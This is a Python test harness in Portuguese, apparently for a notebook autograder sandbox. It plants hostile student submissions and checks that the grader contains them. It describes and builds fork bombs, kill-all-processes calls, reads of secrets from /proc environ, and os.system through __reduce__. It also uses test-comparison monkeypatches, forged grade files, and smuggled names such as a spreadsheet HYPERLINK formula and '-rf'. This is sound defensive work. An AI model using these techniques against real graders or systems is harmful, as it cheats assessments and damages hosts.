    with open(os.path.join(os.fsencode(ctx.submissoes), b"\xff\xfe-arquivo-solto"), "wb") as f:
        f.write(b"{}")


def _atividade_nome_invalido(ctx: Contexto, _pasta: Path) -> None:
    aluno = ctx.submissoes / "pasta-atividade-invalida"
    destino = os.path.join(os.fsencode(aluno), b"\xff" + SLUG.encode())
    os.makedirs(destino)
    with open(os.path.join(destino, SLUG.encode() + b".ipynb"), "w", encoding="utf-8") as f:
        f.write(json.dumps(notebook_com(SLUG, {})))


# ------------------------------------------------------------------ verificações extras
def _sem_arquivo(caminho_rel: str) -> Callable[[Contexto, dict], list[str]]:
    def verificar(ctx: Contexto, _res: dict) -> list[str]:
        alvo = ctx.raiz_tmp / caminho_rel.format(marca=ctx.marca)
        return [f"o ataque criou {alvo} no hospedeiro"] if os.path.lexists(alvo) else []

    return verificar


def _controles_intactos(ctx: Contexto, _res: dict) -> list[str]:
    falhas = []
    for aluno in ("aa-controle", "zz-controle"):
        caminho = ctx.saida / aluno / SLUG / "results.json"
        try:
            dados = json.loads(caminho.read_text(encoding="utf-8"))
        except (OSError, ValueError) as exc:
            falhas.append(f"results.json de {aluno} ilegível depois do ataque ({exc})")
            continue
        if dados.get("score") != 8 or ctx.marca in json.dumps(dados):
            falhas.append(f"results.json de {aluno} foi adulterado (score {dados.get('score')})")
    if (ctx.saida / "zz-falso").exists():
        falhas.append("o ataque criou zz-falso/ na pasta de saída")
    return falhas


def _nota_max_intacta(_ctx: Contexto, res: dict) -> list[str]:
    nm = res.get("extra_data", {}).get("nota_max")
    maximos = [t.get("max_score") for t in res.get("tests", [])]
    if nm != 8 or any(m is None or m > 1 for m in maximos):
        return [f"pontos adulterados tiveram efeito: nota_max {nm}, max_score dos testes {maximos}"]
    return []


def _linha_csv_exata(nome: str) -> Callable[[Contexto, dict], list[str]]:
    def verificar(ctx: Contexto, _res: dict) -> list[str]:
        linhas = _ler_csv(ctx.saida / "notas.csv")
        return [] if nome in linhas else [f"{nome!r} não aparece exatamente assim no notas.csv"]

    return verificar


# ============================================================================ o corpus
SOFT = ("teste_softmax",)
AT_MASC = ("teste_atencao", "teste_mascara")
TODOS = ("teste_softmax", "teste_atencao", "teste_mascara")


def _caso_softmax(nome, descricao, codigo, mensagens=(), **kw) -> Caso:
    """Ataque na célula ``softmax``; a célula ``atencao`` fica com a solução correta."""
    kw.setdefault("zerados", SOFT)
    kw.setdefault("intactos", AT_MASC)
    return Caso(
        nome,
        descricao,
        _com(lambda ctx: {"softmax": codigo(ctx) if callable(codigo) else codigo}),
        mensagens=mensagens,
        **kw,
    )


def corpus() -> list[Caso]:
    c: list[Caso] = []
    add = c.append
    # ------------------------------------------------------------ controles
    for nome in ("aa-controle", "mm-controle", "zz-controle"):
        add(
            Caso(
                nome, "submissão correta de controle: tem de continuar com 8/8", _correto, intactos=TODOS, controle=True
            )
        )

    # ------------------------------------------------------------ tempo e recursos
    add(_caso_softmax("laco-infinito-funcao", "laço infinito dentro da softmax", LACO, ("prazo",)))
    add(
        _caso_softmax(
            "laco-infinito-celula",
            "laço infinito no nível da célula, antes do def (a célula nunca termina)",
            LACO_CELULA + _ref("softmax"),
            ("interrompida",),
        )
    )
    add(
        Caso(
            "laco-infinito-atencao",
            "laço infinito dentro da atenção; softmax correta",
            _com({"atencao": LACO_ATENCAO}),
            zerados=AT_MASC,
            intactos=SOFT,
            mensagens=("prazo",),
        )
    )
    add(
        _caso_softmax(
            "bomba-memoria-funcao", "a softmax aloca memória sem parar", BOMBA_MEMORIA_FUNCAO, ("MemoryError",)
        )
    )
    add(
        _caso_softmax(
            "bomba-memoria-celula",
            "a célula enche a memória (páginas tocadas) antes do def",
            BOMBA_MEMORIA_CELULA + _ref("softmax"),
            (("MemoryError", "interrompida"),),  # estoura a memória ou o prazo, o que vier antes
        )
    )
    add(
        _caso_softmax(
            "bomba-fork",
            "bomba de fork dentro da softmax (while True: os.fork())",
            BOMBA_FORK,
            ("prazo",),
            requer="pid",
        )
    )
    add(
        _caso_softmax(
            "disco-cheio",
            "a célula tenta encher o disco (cwd, /tmp, /var/tmp, /dev/shm, saída, repositório) e depois define a softmax certa",
            _disco_cheio,
            zerados=(),
            intactos=TODOS,
            requer="isolamento",
        )
    )

    # ------------------------------------------------------------ saídas do processo
    saidas = [
        ("sys-exit", "sys.exit(0)", "import sys", "sys.exit(0)", ("sys.exit",), ("sys.exit",)),
        ("os-exit", "os._exit(0)", "import os", "os._exit(0)", ("interrompida",), ("interrompida",)),
        ("raise-systemexit", "raise SystemExit", "", "raise SystemExit(3)", ("sys.exit",), ("sys.exit",)),
        (
            "keyboardinterrupt",
            "raise KeyboardInterrupt",
            "",
            "raise KeyboardInterrupt",
            ("KeyboardInterrupt",),
            ("KeyboardInterrupt",),
        ),
    ]
    for nome, rotulo, imp, instr, msg_funcao, msg_celula in saidas:
        linhas = [x for x in (imp, instr) if x]
        add(_caso_softmax(f"{nome}-funcao", f"{rotulo} dentro da softmax", _na_funcao(*linhas), msg_funcao))
        add(
            _caso_softmax(
                f"{nome}-celula",
                f"{rotulo} no nível da célula, antes do def",
                _saida_celula("\n".join(linhas)),
                msg_celula,
            )
        )

    # ------------------------------------------------------------ sinais e processos
    add(_caso_softmax("ignora-sigterm", "ignora SIGTERM/SIGINT/SIGXCPU e entra em laço", IGNORA_SIGTERM, ("prazo",)))
    add(
        _caso_softmax(
            "mata-pai",
            "os.kill(os.getppid(), SIGKILL) dentro da softmax, depois o cálculo certo",
            MATA_PAI,
            zerados=(),
            requer="pid",
        )
    )
    add(
        _caso_softmax(
            "mata-todos",
            "os.kill(-1, SIGKILL) (todos os processos do usuário), do processo e de um filho",
            MATA_TODOS,
            zerados=(),
            requer="pid",
        )
    )
    add(
        _caso_softmax(
            "processo-orfao",
            "deixa um neto em outra sessão, imune a SIGHUP/SIGTERM, vivo depois da célula; softmax certa",
            PROCESSO_ORFAO,
            zerados=(),
            intactos=TODOS,
            requer="pid",
        )
    )

    # ------------------------------------------------------------ monkeypatch (roda na caixa: não ajuda)
    add(
        _caso_softmax(
            "patch-numpy-allclose",
            "troca np.allclose/isclose/array_equal/all por 'sempre verdadeiro'; softmax errada",
            PATCH_NUMPY,
        )
    )
    add(
        _caso_softmax(
            "patch-numpy-testing", "anula numpy.testing.assert_allclose e afins; softmax errada", PATCH_NUMPY_TESTING
        )
    )
    add(
        _caso_softmax("patch-torch-allclose", "troca torch.allclose/equal e Tensor.__eq__; softmax errada", PATCH_TORCH)
    )
    add(_caso_softmax("patch-torch-testing", "anula torch.testing.assert_close; softmax errada", PATCH_TORCH_TESTING))
    add(
        _caso_softmax(
            "patch-builtins",
            "troca builtins.isinstance/abs/all/any e a softmax é errada; isso quebra a própria caixa, que o "
            "avaliador reabre sem a célula culpada",
            PATCH_BUILTINS,
            ("interrompida",),
        )
    )

    # ------------------------------------------------------------ valores devolvidos
    add(_caso_softmax("eq-sempre-verdadeiro", "devolve objeto com __eq__ sempre verdadeiro", EQ_SEMPRE, ("recusado",)))
    add(
        _caso_softmax(
            "subclasse-ndarray", "devolve subclasse de ndarray com __eq__ trapaceiro", SUBCLASSE_NDARRAY, ("subclasse",)
        )
    )
    add(
        _caso_softmax(
            "subclasse-tensor",
            "devolve subclasse de torch.Tensor com __torch_function__",
            SUBCLASSE_TENSOR,
            ("subclasse",),
        )
    )
    add(
        _caso_softmax(
            "reduce-payload",
            "devolve objeto cujo __reduce__ roda os.system (nada de pickle na fronteira)",
            _reduce,
            ("recusado",),
            extra=_sem_arquivo("apoio/reduce-{marca}"),
        )
    )
    add(
        _caso_softmax(
            "dtype-objeto", "devolve ndarray de dtype object com elementos trapaceiros", DTYPE_OBJETO, ("dtype",)
        )
    )
    add(
        _caso_softmax(
            "retorno-gigante", "devolve um array acima do limite de elementos", RETORNO_GIGANTE, ("grande demais",)
        )
    )
    add(_caso_softmax("estrutura-profunda", "devolve lista aninhada 100 000 níveis", ESTRUTURA_PROFUNDA, ("aninhada",)))

    # ------------------------------------------------------------ vazamentos e escrita
    add(
        _caso_softmax(
            "ler-solucao-e-testes",
            "lê a suíte oculta, o notebook do instrutor e o segredo, importa autograder.suites, percorre o repositório",
            _ler_solucao,
            requer="isolamento",
        )
    )
    add(
        _caso_softmax(
            "ler-outros-alunos",
            "lê o notebook de outro aluno (pasta de submissões) e os relatórios já gravados",
            _ler_outros,
            requer="isolamento",
        )
    )
    add(
        _caso_softmax(
            "ler-segredo",
            "procura AVALIADOR_SEGREDO no ambiente e em /proc/*/environ",
            LER_SEGREDO,
            requer="isolamento",
        )
    )
    add(
        _caso_softmax(
            "subprocesso-shell",
            "usa /bin/sh para ler a suíte oculta e listar o repositório",
            _shell,
            requer="isolamento",
        )
    )
    add(
        _caso_softmax(
            "envenenar-venv",
            "tenta criar um .pth no site-packages e abrir numpy/__init__.py para escrita",
            _envenenar_venv,
            requer="isolamento",
        )
    )
    add(
        _caso_softmax(
            "escrever-saida-falsa",
            "grava results.json/notas.csv falsos na pasta de saída (a própria, a de outro aluno) e no cwd, "
            "e sobrescreve o notebook de outro aluno",
            _saida_falsa,
            requer="isolamento",
            extra=_controles_intactos,
        )
    )
    add(
        _caso_softmax(
            "imprimir-nota-falsa",
            "imprime uma nota falsa e um JSON do Gradescope em stdout/stderr (print, sys.__stdout__, os.write)",
            _nota_falsa,
        )
    )
    add(
        _caso_softmax(
            "rede-loopback",
            "conecta em 127.0.0.1 (porta aberta no hospedeiro) e num soquete unix abstrato do hospedeiro",
            lambda ctx: _rede(ctx, externa=False),
            ("rede:",),
            requer="isolamento",
        )
    )
    add(
        _caso_softmax(
            "rede-externa",
            "conecta em 192.0.2.1 (TEST-NET, TCP e UDP) com prazo de 1 s",
            lambda ctx: _rede(ctx, externa=True),
            ("rede:",),
            requer="isolamento",
        )
    )
    add(
        _caso_softmax(
            "saida-gigante-print",
            "softmax certa que imprime 1 GiB por chamada",
            SAIDA_PRINT,
            zerados=(),
            intactos=TODOS,
        )
    )
    add(
        _caso_softmax(
            "saida-gigante-oswrite",
            "softmax certa que escreve 1 GiB por chamada com os.write(1/2)",
            SAIDA_OSWRITE,
            zerados=(),
            intactos=TODOS,
        )
    )
    add(
        _caso_softmax(
            "thread-daemon",
            "thread daemon que, depois do retorno, corrige o array devolvido e tenta gravar relatórios falsos",
            _thread,
            requer="isolamento",
            extra=_controles_intactos,
        )
    )
    add(
        Caso(
            "respostas-fixas",
            "saídas exatas das verificações visíveis embutidas (tabela); fora delas, pesos uniformes",
            _com(_respostas_fixas),
            zerados=SOFT,
            nota_maxima=0.0,  # o portão de ordem dos pesos impede pontos por pesos uniformes
        )
    )

    # ------------------------------------------------------------ protocolo e caixa
    add(
        _caso_softmax(
            "protocolo-lixo",
            "escreve lixo (cabeçalho de 2 GiB) no soquete do avaliador",
            PROTOCOLO_LIXO,
            ("interrompida",),
        )
    )
    add(
        _caso_softmax(
            "callback-forjado",
            "forja um callback para pedir a softmax de referência ao avaliador durante teste_softmax",
            CALLBACK_FORJADO,
            ("não pode ser chamada",),
        )
    )
    add(
        _caso_softmax(
            "fechar-descritores",
            "a célula fecha todos os descritores (inclusive o soquete)",
            FECHAR_DESCRITORES,
            ("interrompida",),
        )
    )
    add(
        _caso_softmax(
            "segfault", "a softmax derruba o processo com SIGSEGV (ctypes.string_at(0))", SEGFAULT, ("interrompida",)
        )
    )
    add(
        Caso(
            "callback-em-laco",
            "a atenção chama a softmax de referência (callback no avaliador) sem parar",
            _com({"atencao": CALLBACK_EM_LACO}),
            zerados=AT_MASC,
            intactos=SOFT,
            mensagens=("prazo",),
        )
    )
    add(
        _caso_softmax(
            "erro-com-surrogate",
            "exceção com surrogate solto, enviada com escapes \\uXXXX (texto inválido em UTF-8 no relatório)",
            ERRO_COM_SURROGATE,
        )
    )

    # ------------------------------------------------------------ notebooks malformados
    add(
        Caso(
            "json-invalido",
            "notebook truncado (JSON inválido)",
            _bruto(b'{"cells": [{"cell_type": "code", "sou'),
            zerados=TODOS,
            mensagens=("não é JSON válido",),
        )
    )
    add(Caso("arquivo-vazio", "notebook vazio (0 bytes)", _bruto(b""), zerados=TODOS, mensagens=("vazio",)))
    add(
        Caso(
            "json-aninhado",
            "JSON com 200 000 colchetes aninhados",
            _bruto(lambda: b"[" * 200_000 + b"]" * 200_000),
            zerados=TODOS,
            mensagens=("não é JSON válido",),
        )
    )
    add(
        Caso(
            "nbformat-v3",
            "notebook no formato antigo (nbformat 3, worksheets/input), solução correta",
            _nb_v3,
            intactos=TODOS,
            mensagens=("nbformat 3",),
        )
    )
    add(Caso("nao-utf8", "notebook correto gravado em UTF-16", _nb_utf16, zerados=TODOS, mensagens=("UTF-8",)))
    add(Caso("saidas-200mb", "notebook correto com 200 MB de saída numa célula", _nb_200mb, intactos=TODOS))
    add(
        Caso(
            "notebook-400mb",
            "notebook de 400 MB (arquivo esparso), acima do limite",
            _nb_esparso,
            zerados=TODOS,
            mensagens=("acima do limite",),
        )
    )
    add(
        Caso(
            "celula-apagada",
            "a célula de solução softmax foi apagada",
            _nb_mexido(_apagar_softmax),
            zerados=SOFT,
            intactos=AT_MASC,
            mensagens=("não foi encontrada",),
        )
    )
    add(
        Caso(
            "grade-id-duplicado-errado-primeiro",
            "grade_id softmax duplicado: a primeira cópia errada, a segunda certa (vale a primeira)",
            _nb_mexido(_duplicar(errada_primeiro=True)),
            zerados=SOFT,
            intactos=AT_MASC,
            mensagens=("aparece 2 vezes",),
        )
    )
    add(
        Caso(
            "grade-id-duplicado-certo-primeiro",
            "grade_id softmax duplicado: a primeira cópia certa, a segunda errada (vale a primeira)",
            _nb_mexido(_duplicar(errada_primeiro=False)),
            intactos=TODOS,
            mensagens=("aparece 2 vezes",),
        )
    )
    add(
        Caso(
            "celulas-de-teste-apagadas",
            "as três células de teste (verificações visíveis) foram apagadas; solução correta",
            _nb_mexido(_apagar_testes),
            intactos=TODOS,
        )
    )
    add(
        Caso(
            "celula-gigante",
            "a célula softmax passa de 512 KiB (600 KiB de comentário + o código certo)",
            _nb_mexido(_celula_gigante),
            zerados=SOFT,
            intactos=AT_MASC,
            mensagens=("512 KiB",),
        )
    )
    add(
        Caso(
            "celula-virou-markdown",
            "a célula de solução softmax virou markdown (com o código certo dentro)",
            _nb_mexido(_virar_markdown),
            zerados=SOFT,
            intactos=AT_MASC,
            mensagens=("virou markdown",),
        )
    )
    add(
        Caso(
            "pontos-adulterados",
            "points: 1000 nos metadados das células de teste; solução correta",
            _nb_mexido(_adulterar_pontos),
            intactos=TODOS,
            mensagens=("pontos alterados",),
            extra=_nota_max_intacta,
        )
    )
    add(
        Caso(
            "link-simbolico",
            "o notebook é um link simbólico para o notebook do instrutor (não pode ser lido)",
            _link_simbolico,
            zerados=TODOS,
            mensagens=("link simbólico",),
        )
    )
    add(
        Caso(
            "varios-notebooks",
            "dois notebooks na pasta, nenhum com o nome da atividade",
            _varios,
            zerados=TODOS,
            mensagens=("vários notebooks",),
        )
    )
    add(
        Caso(
            "notebook-fifo",
            "o notebook é um pipe nomeado (ler bloquearia para sempre)",
            _fifo,
            zerados=TODOS,
            mensagens=("arquivo comum",),
        )
    )
    add(
        Caso(
            "tipo-de-celula-estranho",
            "cell_type da célula softmax com surrogate solto (texto que não vira UTF-8)",
            _gravar_ascii(_tipo_estranho),
            zerados=SOFT,
            intactos=AT_MASC,
            mensagens=("não foi avaliado",),
        )
    )
    add(
        Caso(
            "surrogate-no-codigo",
            "solução correta com um comentário contendo surrogate solto",
            _gravar_ascii(_surrogate_no_codigo),
            intactos=TODOS,
            mensagens=("caracteres inválidos",),
        )
    )

    # ------------------------------------------------------------ nomes de pasta
    add(
        Caso(
            "nome-ponto-ponto",
            "pasta de aluno chamada '..evil' (travessia de caminho)",
            _correto,
            aluno="..evil",
            avaliado=False,
            aviso_lote="..evil",
        )
    )
    add(
        Caso(
            "nome-quebra-de-linha",
            "nome de aluno com quebra de linha",
            _correto,
            aluno="aluno\nfalso",
            avaliado=False,
            aviso_lote="'aluno\\nfalso'",
        )
    )
    add(
        Caso("nome-menos-rf", "pasta de aluno chamada '-rf'", _correto, aluno="-rf", avaliado=False, aviso_lote="'-rf'")
    )
    add(
        Caso(
            "nome-hyperlink",
            "nome de aluno que é uma fórmula de planilha (injeção no CSV)",
            _correto,
            aluno='=HYPERLINK("http:\\\\192.0.2.1";"nota 10")',
            avaliado=False,
            aviso_lote="HYPERLINK",
        )
    )
    add(
        Caso(
            "nome-arroba",
            "nome de aluno começando com @ (fórmula)",
            _correto,
            aluno="@SOMA(A1:A9)",
            avaliado=False,
            aviso_lote="@SOMA",
        )
    )
    add(
        Caso(
            "nome-longo",
            "nome de aluno com 200 caracteres",
            _correto,
            aluno="a" * 200,
            avaliado=False,
            aviso_lote="aaaa",
        )
    )
    add(
        Caso(
            "nome-unicode-valido",
            "nome de aluno com acentos e @ (válido: tem de ser corrigido normalmente)",
            _correto,
            aluno="joão.ñandu@usp",
            intactos=TODOS,
            extra=_linha_csv_exata("joão.ñandu@usp"),
        )
    )
    add(
        Caso(
            "arquivo-nome-invalido",
            "arquivo solto na pasta de submissões com nome que não é UTF-8",
            _arquivo_nome_invalido,
            aluno=os.fsdecode(b"\xff\xfe-arquivo-solto"),
            avaliado=False,
            aviso_lote="arquivo-solto",
        )
    )
    add(
        Caso(
            "pasta-atividade-invalida",
            "pasta de atividade com nome que não é UTF-8",
            _atividade_nome_invalido,
            aluno="pasta-atividade-invalida",
            avaliado=False,
            aviso_lote="atividade desconhecida",
        )
    )
    return c


# ============================================================================ execução
def _sondar_isolamento(ctx: Contexto) -> None:
    from autograder.caixa.cliente import ErroCaixa, Zigoto

    zigoto = Zigoto(ocultar=[str(ctx.raiz_tmp)])
    try:
        ctx.isolado = zigoto.isolado
        if not ctx.isolado:
            ctx.motivo_isolamento = "; ".join(zigoto.avisos) or "a caixa não tem namespaces"
            return
        caixa = zigoto.nova_caixa()
        try:
            caixa.executar("import os as _o\n_sonda = (_o.getpid(), _o.getuid())", "sonda", prazo=30)
            pid, uid = caixa.chamar("_sonda", ler=True, prazo=10)
        except ErroCaixa as exc:
            ctx.motivo_isolamento = f"a sonda de isolamento falhou ({exc})"
            return
        finally:
            caixa.matar()
        ctx.pid_ns = pid == 1 and uid >= UID_CAIXA
        if not ctx.pid_ns:
            ctx.motivo_isolamento = f"a caixa não tem namespace de PID próprio (pid {pid}, uid {uid})"
    finally:
        zigoto.fechar()


def _motivo_pulo(caso: Caso, ctx: Contexto) -> str:
    if caso.requer == "pid" and not ctx.pid_ns:
        return (
            "requer namespace de PID próprio e usuário sem privilégios (o ataque mata ou cria processos e, "
            "sem isso, poderia atingir processos de fora da caixa)"
        )
    if caso.requer == "isolamento" and not ctx.isolado:
        return "requer namespaces de montagem e rede: sem eles o avaliador avisa 'isolamento parcial' e não contém isto"
    return ""


def _listar(pasta: Path) -> dict[str, tuple]:
    saida = {}
    for base, dirs, arqs in os.walk(os.fsencode(pasta)):
        for nome in dirs + arqs:
            caminho = os.path.join(base, nome)
            info = os.lstat(caminho)
            saida[os.fsdecode(os.path.relpath(caminho, os.fsencode(pasta)))] = (
                info.st_mode,
                info.st_size,
                info.st_mtime_ns,
            )
    return saida


def _ler_csv(caminho: Path) -> dict[str, dict[str, str]]:
    try:
        with open(caminho, newline="", encoding="utf-8") as f:
            linhas = list(csv.reader(f))
    except (OSError, ValueError):
        return {}
    if not linhas:
        return {}
    cab = linhas[0]
    return {linha[0]: dict(zip(cab, linha, strict=False)) for linha in linhas[1:] if linha}


def _processos_da_caixa(ctx: Contexto, ignorar: set[int]) -> list[tuple[int, int, str]]:
    """Processos com o uid de uma vaga da caixa que vieram DESTE corpus.

    Os processos das caixas são forks do zigoto, cuja linha de comando traz as pastas escondidas
    (as do corpus); assim não confundimos com caixas de outro avaliador rodando ao mesmo tempo."""
    achados = []
    assinaturas = (os.fsencode(str(ctx.raiz_tmp.resolve())), ctx.marca.encode())
    for nome in os.listdir("/proc"):
        if not nome.isdigit() or int(nome) in ignorar:
            continue
        try:
            with open(f"/proc/{nome}/status") as f:
                uid = next(int(x.split()[1]) for x in f if x.startswith("Uid:"))
            with open(f"/proc/{nome}/cmdline", "rb") as f:
                cmd = f.read()
        except (OSError, StopIteration, ValueError):
            continue
        if UID_CAIXA <= uid < UID_CAIXA + VAGAS and any(a in cmd for a in assinaturas):
            achados.append((int(nome), uid, cmd.replace(b"\0", b" ").decode(errors="replace")[:80]))
    return achados


def _procurar_marca(ctx: Contexto) -> list[str]:
    """Arquivos com a marca dos ataques em lugares do hospedeiro onde um ataque poderia escrever."""
    lugares = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/", str(RAIZ), str(Path.home())]
    site = Path(np.__file__).resolve().parent.parent
    lugares += [str(site), str(Path(np.__file__).resolve().parent)]
    achados = []
    for lugar in lugares:
        with contextlib.suppress(OSError):
            achados += [os.path.join(lugar, n) for n in os.listdir(lugar) if ctx.marca in n]
    for base, dirs, arqs in os.walk(ctx.raiz_tmp):
        achados += [os.path.join(base, n) for n in dirs + arqs if ctx.marca in n]
    return achados


def _texto_do_relatorio(res: dict) -> str:
    partes = [str(res.get("output", ""))]
    partes += [str(t.get("output", "")) for t in res.get("tests", [])]
    partes.append(json.dumps(res.get("extra_data", {}), ensure_ascii=False))
    return "\n".join(partes)


def _conferir_caso(
    caso: Caso, ctx: Contexto, itens_max: dict[str, float], csv_notas: dict, saida_lote: str
) -> ResultadoCaso:
    r = ResultadoCaso(caso.nome, caso.descricao, controle=caso.controle)
    pasta = ctx.saida / caso.pasta_aluno
    if not caso.avaliado:
        if os.path.lexists(pasta):
            r.falhas.append(f"a pasta recusada ganhou relatório em {pasta}")
        if caso.pasta_aluno in csv_notas:
            r.falhas.append("a pasta recusada aparece no notas.csv")
        if caso.aviso_lote and caso.aviso_lote not in saida_lote:
            r.falhas.append(f"a saída do lote não avisa sobre a pasta (esperado o trecho {caso.aviso_lote!r})")
        r.resumo = "recusada pelo lote" + (" (com aviso)" if caso.aviso_lote and caso.aviso_lote in saida_lote else "")
        return r
    caminho = pasta / SLUG / "results.json"
    try:
        res = json.loads(caminho.read_text(encoding="utf-8"))
    except (OSError, ValueError) as exc:
        r.falhas.append(f"sem results.json legível ({type(exc).__name__}): a submissão não foi corrigida")
        return r
    pontos = {k: float(v) for k, v in res.get("extra_data", {}).get("pontos_por_item", {}).items()}
    r.pontos, r.nota, r.segundos = pontos, float(res.get("score", -1)), float(res.get("execution_time", 0.0))
    texto = _texto_do_relatorio(res)
    r.resumo = next((x.strip() for x in str(res.get("output", "")).splitlines()[1:] if x.strip()), "")[:160]
    maximos = {gid: itens_max[gid] for gid in itens_max}
    for gid in caso.zerados:
        maximos[gid] = 0.0
    maximos.update(caso.maximo)
    minimos = {gid: itens_max[gid] for gid in caso.intactos}
    minimos.update(caso.minimo)
    for gid in itens_max:
        p = pontos.get(gid)
        if p is None:
            r.falhas.append(f"item {gid} ausente do relatório")
            continue
        if p > maximos[gid] + 1e-9:
            r.falhas.append(f"{gid}: {p:g} pontos, acima do honesto ({maximos[gid]:g})")
        if p < minimos.get(gid, 0.0) - 1e-9:
            r.falhas.append(f"{gid}: {p:g} pontos, mas o código deste item está intacto ({minimos[gid]:g})")
    honesta = sum(maximos.values())
    if r.nota > honesta + 1e-9:
        r.falhas.append(f"nota {r.nota:g} acima da honesta {honesta:g}")
    if caso.nota_maxima is not None and r.nota > caso.nota_maxima + 1e-9:
        r.falhas.append(f"nota {r.nota:g} acima do teto do caso ({caso.nota_maxima:g})")
    if abs(r.nota - sum(pontos.values())) > 1e-6:
        r.falhas.append("score difere da soma dos itens")
    if res.get("extra_data", {}).get("nota_max") != sum(itens_max.values()):
        r.falhas.append(f"nota_max adulterada: {res.get('extra_data', {}).get('nota_max')}")
    for proibido in ("Erro interno do avaliador", "falha interna do avaliador"):
        if proibido in texto:
            r.falhas.append(f"o avaliador quebrou nesta submissão ({proibido!r})")
    for proibido in ("VAZOU", ctx.segredo, f"{ctx.marca}-nota-falsa"):
        if proibido in texto:
            r.falhas.append(f"vazamento ou nota forjada no relatório ({proibido[:12]!r}…)")
    for trecho in caso.mensagens:
        opcoes = (trecho,) if isinstance(trecho, str) else trecho
        if not any(o in texto for o in opcoes):
            r.falhas.append(f"o relatório não diz o que aconteceu (esperado {' ou '.join(map(repr, opcoes))})")
    linha = csv_notas.get(caso.pasta_aluno)
    if linha is None:
        r.falhas.append("o aluno não aparece no notas.csv")
    elif abs(float(linha.get("total", "nan")) - r.nota) > 1e-6:
        r.falhas.append(f"notas.csv diz {linha.get('total')}, results.json diz {r.nota:g}")
    if caso.extra is not None:
        r.falhas += caso.extra(ctx, res)
    return r


def _figuras(rel: Relatorio, saida) -> None:
    saida("")
    saida(f"{'situação':<8}  {'nota':>5}  {'s':>5}  caso")
    for r in rel.casos.values():
        nota = "-" if r.nota is None else f"{r.nota:g}"
        seg = "-" if r.segundos is None else f"{r.segundos:.1f}"
        saida(f"{r.situacao:<8}  {nota:>5}  {seg:>5}  {r.nome}: {r.resumo or r.motivo}")
        for f in r.falhas:
            saida(f"          FALHA: {f}")
    for nome, falhas in rel.globais.items():
        saida(f"{'ok' if not falhas else 'falhou':<8}  {'':>5}  {'':>5}  [lote] {nome}")
        for f in falhas:
            saida(f"          FALHA: {f}")
    falhas_globais = sum(1 for x in rel.globais.values() if x)
    rel.resumo = [
        f"Corpus adversarial: {rel.tentados} ataques tentados, {rel.contidos} contidos "
        f"({100 * rel.contidos / max(rel.tentados, 1):.0f}%), {rel.pulados} pulados; "
        f"{rel.controles} submissões de controle corrigidas no mesmo lote.",
        f"Caso mais lento: {rel.mais_lento[0]} ({rel.mais_lento[1]:.1f} s). Tempo total: {rel.segundos_total:.1f} s "
        f"(lote: {rel.segundos_lote:.1f} s; prazo por chamada/célula: {PRAZO} s).",
        f"Verificações do lote: {len(rel.globais) - falhas_globais}/{len(rel.globais)} ok.",
    ]
    rel.resumo += [f"  pulado: {r.nome}: {r.motivo}" for r in rel.casos.values() if r.situacao == "pulado"]
    rel.resumo += [f"  FALHA: {f}" for f in rel.falhas]
    saida("")
    for linha in rel.resumo:
        saida(linha)


def rodar(
    saida=print, filtro: list[str] | None = None, manter: Path | None = None, base: str | None = None
) -> Relatorio:
    """Monta o corpus, corrige tudo num lote só (subprocesso) e confere cada caso."""
    inicio = time.monotonic()
    rel = Relatorio()
    atividade = carregar_atividade(SLUG)
    itens_max = {i.grade_id: i.pontos for i in atividade.itens}
    casos = [c for c in corpus() if not filtro or c.controle or any(f in c.nome for f in filtro)]
    raiz_tmp = Path(tempfile.mkdtemp(prefix="adversarial-", dir=base or os.environ.get("ADVERSARIAL_BASE")))
    raiz_tmp.chmod(0o755)  # legível por todos, como uma pasta comum: quem protege é a caixa, não a permissão
    servidor_tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    servidor_unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sentinela = proc = None
    try:
        servidor_tcp.bind(("127.0.0.1", 0))
        servidor_tcp.listen(8)
        servidor_tcp.setblocking(False)
        marca = "advmarca" + secrets.token_hex(6)
        servidor_unix.bind("\0" + marca)
        servidor_unix.listen(8)
        servidor_unix.setblocking(False)
        ctx = Contexto(
            raiz_tmp=raiz_tmp,
            submissoes=raiz_tmp / "submissoes",
            saida=raiz_tmp / "saida",
            cwd=raiz_tmp / "cwd",
            apoio=raiz_tmp / "apoio",
            marca=marca,
            segredo="segredo-adversarial-" + secrets.token_hex(16),
            porta=servidor_tcp.getsockname()[1],
            unix=marca,
        )
        for p in (ctx.submissoes, ctx.cwd, ctx.apoio):
            p.mkdir()
        _sondar_isolamento(ctx)
        saida(
            f"Isolamento: namespaces {'sim' if ctx.isolado else 'não'}, PID próprio {'sim' if ctx.pid_ns else 'não'}"
            + (f" ({ctx.motivo_isolamento})" if ctx.motivo_isolamento else "")
        )
        if ctx.pid_ns and os.geteuid() == 0:
            # Processo de fora da caixa com o mesmo uid da vaga 0: um kill(-1) que escapasse o mataria.
            sentinela = subprocess.Popen(
                ["sleep", "900"],
                user=UID_CAIXA,
                group=UID_CAIXA,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
                cwd="/",
            )
        montados = []
        for caso in casos:
            motivo = _motivo_pulo(caso, ctx)
            if motivo:
                rel.casos[caso.nome] = ResultadoCaso(
                    caso.nome, caso.descricao, "pulado", motivo=motivo, controle=caso.controle
                )
                continue
            try:
                caso.construir(ctx, ctx.submissoes / caso.pasta_aluno / SLUG)
                montados.append(caso)
            except Exception as exc:
                rel.casos[caso.nome] = ResultadoCaso(
                    caso.nome, caso.descricao, "falhou", [f"erro ao montar o caso: {type(exc).__name__}: {exc}"]
                )
        antes_submissoes = _listar(ctx.submissoes)
        saida(f"Corrigindo {len(montados)} submissões num lote só (prazo {PRAZO} s por chamada)...")
        log = raiz_tmp / "apoio" / "saida-do-lote.txt"
        env = {
            **os.environ,
            "AVALIADOR_PRAZO_CHAMADA": PRAZO,
            "AVALIADOR_PRAZO_CELULA": PRAZO,
            "AVALIADOR_ORCAMENTO": ORCAMENTO,
            "AVALIADOR_SEGREDO": ctx.segredo,
            "PYTHONIOENCODING": "utf-8",  # estrito, como num terminal UTF-8 comum
            "PYTHONPATH": str(RAIZ),
        }
        t0 = time.monotonic()
        terminou = True
        with open(log, "wb") as f:
            proc = subprocess.Popen(
                [sys.executable, "-m", "autograder", "lote", str(ctx.submissoes), "--saida", str(ctx.saida)],
                cwd=ctx.cwd,
                env=env,
                stdin=subprocess.DEVNULL,
                stdout=f,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )
            try:
